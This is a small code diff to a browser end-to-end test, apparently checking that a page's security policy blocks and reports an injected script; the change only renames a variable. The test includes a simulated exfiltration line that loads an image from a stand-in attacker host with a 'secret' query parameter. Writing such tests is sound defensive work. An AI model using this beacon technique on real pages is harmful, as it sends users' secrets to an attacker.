@@ -269,13 +269,13 @@ test.describe("a script that got into a page all the same", () => {
     page,
   }) => {
     await page.goto("/sign-in?callbackUrl=%2Fwhat-the-address-held");
-    const told = page.waitForResponse((response) =>
+    const reported = page.waitForResponse((response) =>
       response.url().endsWith("/api/policy-violations"),
     );
     await page.evaluate(() => {
       const image = new Image();
       image.src = "https://attacker.example/stolen?secret=1";
     });
-    expect((await told).status()).toBe(204);
+    expect((await reported).status()).toBe(204);
   });
 });
